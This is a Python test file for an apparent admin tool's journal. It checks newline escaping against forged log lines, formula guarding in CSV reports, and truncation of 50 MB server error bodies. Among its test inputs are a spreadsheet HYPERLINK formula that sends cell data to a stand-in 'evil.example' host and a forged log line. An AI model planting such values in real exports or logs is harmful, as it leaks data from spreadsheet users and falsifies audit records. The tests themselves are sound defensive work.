"""audit12: what the journal keeps, as people and spreadsheets are shown it, and how much.

- `journal show` (and every table) printed a value's newline raw: a summary holding
  "\\n" forged a line of the output. Now shown escaped; the journal keeps the value.
- `report monthly --out`'s CSV had no formula guard: an operator name starting with `=`
  became a spreadsheet formula. Now guarded as `journal export -f csv` and `-o csv` are.
- A failure's error text and data were journaled whole: a server answering 50 MB made a
  50 MB journal row and note. Now cut, with a marker saying so.
"""

from __future__ import annotations

import csv
import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.error import HTTPError
from urllib.request import urlopen

import pytest

from adminkit.core.action import Applied, Plan
from adminkit.core.context import Context
from adminkit.core.csvcell import FORMULA_START
from adminkit.core.errors import ActionFailed
from adminkit.core.jsonvalues import CUT_KEY, DATA_CHARS, ERROR_CHARS
from adminkit.journal.store import Filters, Journal
from tests.fakes.graphrig import GraphRig, graph_fixture  # noqa: F401 - the fixture
from tests.unit.toys import ToyAction, ToyParams

RUN = "R-20261207-120000-a12b12"
FORGED = "done\n  finished 2026-12-07T12:00:00: ok {'counts': {'changed': 1}}"
HUGE = 50 * 1024 * 1024  # characters of a hostile server's error body


def _journal_with_newlines(path: Path) -> None:
    """A run whose texts came from outside (a directory's value, a server's words)."""
    journal = Journal(path)
    common = {"run_id": RUN, "operator": "tester", "profile": "acme", "ticket": "local:1",
              "mode": "apply"}
    journal.append(kind="run", summary=f"account set jdoe {FORGED}", status="started",
                   **common)
    journal.append(kind="action", idx=0, action="account.set", target=f"jdoe\n{FORGED}",
                   status="failed", summary=f"account.set jdoe: {FORGED}",
                   diff=[{"op": "set", "field": "title", "before": "a\tb",
                          "after": f"x\n{FORGED}"}],
                   error=FORGED, **common)
    journal.append(kind="end", summary="x", status=f"failed\n{FORGED}",
                   detail={"counts": {"failed": 1}, "exit_code": 1}, **common)
    journal.close()


def _forged_lines(out: str) -> list[str]:
    return [line for line in out.splitlines() if line.lstrip().startswith("finished 2026-12-07T12")]


def test_journal_show_prints_a_values_newline_escaped(env: Any, cli: Any) -> None:
    _journal_with_newlines(env.journal)
    r = cli("journal", "show", RUN)
    assert r.code == 0, r.err
    assert _forged_lines(r.out) == [], r.out
    assert "account set jdoe done\\n  finished 2026-12-07T12:00:00" in r.out
    assert "title: a\\tb -> x\\ndone\\n" in r.out  # the diff line, whole on its line
    assert "finished " in r.out and ": failed\\ndone\\n" in r.out  # the end row's line
    # the journal keeps the real value: JSON gives it back exact
    shown = json.loads(cli("-o", "json", "journal", "show", RUN).out)
    assert shown["actions"][0]["error"] == FORGED


@pytest.mark.parametrize("args", [("journal", "list"), ("status", "local:1")])
def test_a_table_cell_shows_a_values_newline_escaped(env: Any, cli: Any,
                                                     args: tuple[str, ...]) -> None:
    _journal_with_newlines(env.journal)
    r = cli(*args)
    assert r.code == 0, r.err
    assert _forged_lines(r.out) == [], r.out
    assert "\\n  finished" in r.out


def test_the_monthly_reports_csv_guards_formulas(env: Any, cli: Any, tmp_path: Path) -> None:
    """Operators (ADMINKIT_OPERATOR is anyone's text), tickets and actions: text in the
    spreadsheet, never a formula; the numbers stay numbers."""
    (env.profiles / "acme.yaml").write_text("description: acme\n")
    journal = Journal(env.journal)
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click") (login alice)'
    common = {"profile": "acme", "mode": "apply"}
    journal.append(kind="run", run_id="R-1", operator=evil, **common)
    journal.append(kind="action", run_id="R-1", idx=0, operator=evil, ticket="+1-555",
                   action="@SUM(A1)", target="x", status="changed", **common)
    journal.append(kind="run", run_id="R-2", operator="-2+3", **common)
    journal.append(kind="run", run_id="R-3", operator="\tcmd", **common)
    month = journal.entries(Filters(kinds=("run",)))[0]["time"][:7]
    journal.close()
    out = tmp_path / "acme.html"
    r = cli("-p", "acme", "report", "monthly", "--month", month, "--out", str(out))
    assert r.code == 0, r.err
    rows = list(csv.reader(out.with_suffix(".csv").open(newline="")))
    cells = [c for row in rows for c in row]
    assert [c for c in cells if c.startswith(FORMULA_START)] == []
    assert ["runs by", "'" + evil, "", "1"] in rows
    assert ["runs by", "'-2+3", "", "1"] in rows and ["runs by", "'\tcmd", "", "1"] in rows
    assert ["ticket", "'+1-555", "", "1"] in rows
    assert ["action", "'@SUM(A1)", "changed", "1"] in rows


# -- a huge error -----------------------------------------------------------------------

@pytest.fixture
def huge_error_server() -> Iterator[str]:
    """A server that answers every request 500 with a 50 MB body."""
    body = b"E" * HUGE

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(500)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, format: str, *args: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}/"
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


class Fetch(ToyAction):
    """A plug-in's action that calls its server and fails with what the server said:
    the text in its message, the whole body in its error's data."""

    url = ""

    def apply(self, ctx: Context, plan: Plan) -> Applied:
        try:
            urlopen(self.url, timeout=60).close()  # noqa: S310 - the test's own server
        except HTTPError as exc:
            body = exc.read().decode()
            error = ActionFailed(f"the server answered {exc.code}: {body}")
            error.data = {"status": exc.code, "body": body, "ids": list(range(5))}
            raise error from None
        return Applied()


def test_a_huge_error_body_is_cut_in_the_journal_and_the_note(
        env: Any, huge_error_server: str) -> None:
    from adminkit.automation.request import RunRequest
    from adminkit.automation.service import RunService
    from adminkit.tickets.local import LocalTickets

    store = LocalTickets()
    ticket = store.new("fetch it")
    store.close()
    action = Fetch(ToyParams(key="remote"), [])
    action.url = huge_error_server
    report = RunService(journal_path=env.journal).run(RunRequest(
        command="fetch", profile=None, actions=[action], ticket=f"local:{ticket}"))
    assert report.exit_code == 1
    journal = Journal(env.journal)
    try:
        [row] = journal.entries(Filters(status="failed"))
    finally:
        journal.close()
    assert row["error"].startswith("the server answered 500: EEEE")
    assert len(row["error"]) < ERROR_CHARS + 100
    assert row["error"].endswith(f"…[cut: {HUGE + 25} characters, the first {ERROR_CHARS} "
                                 "kept]")
    assert len(row["summary"]) < ERROR_CHARS + 200
    detail = row["detail"]
    assert len(json.dumps(detail, ensure_ascii=False)) <= DATA_CHARS + 100
    assert detail["status"] == 500 and detail["ids"] == [0, 1, 2, 3, 4]  # small: kept
    assert detail["body"].startswith("EEEE") and "…[cut: " in detail["body"]
    assert CUT_KEY in detail and detail["error_type"] == "ActionFailed"
    assert env.journal.stat().st_size < 2 * 1024 * 1024  # no 50 MB row in the file
    store = LocalTickets()
    [note] = store.notes(ticket)
    store.close()
    # the note's summary line and its error line each hold the error's first line, cut
    assert len(note["body"]) < 2 * ERROR_CHARS + 1000 and "…[cut: " in note["body"]


def test_a_huge_graph_error_is_cut_in_the_journal_and_the_note(
        graph: GraphRig, env: Any, cli: Any) -> None:
    """A real backend, its real client: Microsoft Graph (the fake) refuses a write with a
    50 MB error message."""
    from adminkit.tickets.local import LocalTickets

    graph.profile()
    original = graph.fake.handle

    def handle(method: str, target: str, headers: dict[str, str], body: Any,
               **kw: Any) -> Any:
        if method in ("PATCH", "POST") and "/v1.0/" in target and "token" not in target:
            return 400, {}, {"error": {"code": "Request_BadRequest",
                                       "message": "M" * HUGE}}
        return original(method, target, headers, body, **kw)

    graph.fake.handle = handle  # type: ignore[method-assign]
    store = LocalTickets()
    ticket = store.new("disable jnovak")
    store.close()
    r = cli("-p", "entra", "--ticket", f"local:{ticket}", "account", "disable", "jnovak")
    assert r.code != 0, r.out + r.err
    journal = Journal(env.journal)
    try:
        [row] = journal.entries(Filters(status="failed"))
    finally:
        journal.close()
    assert "MMMM" in row["error"] and "…[cut: " in row["error"], row["error"][:300]
    assert len(row["error"]) < ERROR_CHARS + 100
    assert env.journal.stat().st_size < 2 * 1024 * 1024
    store = LocalTickets()
    bodies = [n["body"] for n in store.notes(ticket)]
    store.close()
    assert bodies and all(len(b) < 2 * ERROR_CHARS + 1000 for b in bodies)
    assert any("…[cut: " in b for b in bodies)


def test_a_decisions_huge_text_is_cut_in_its_note(env: Any) -> None:
    """A trigger's run that did not start says why on the ticket (journal_event): the why
    is an error's first line, as long as a server made it."""
    from adminkit.automation.dispatch import journal_event
    from adminkit.tickets.base import TicketRef

    journal = Journal(env.journal)
    try:
        journal_event(journal, profile="acme", ref=TicketRef("local", "1"), operator="watch",
                      command="watch: failed (local:1)", status="failed",
                      text="did not start: " + "E" * HUGE)
        [note] = journal.outbox()
    finally:
        journal.close()
    assert len(note["body"]) < ERROR_CHARS + 500 and "…[cut: " in note["body"]
    assert env.journal.stat().st_size < 2 * 1024 * 1024
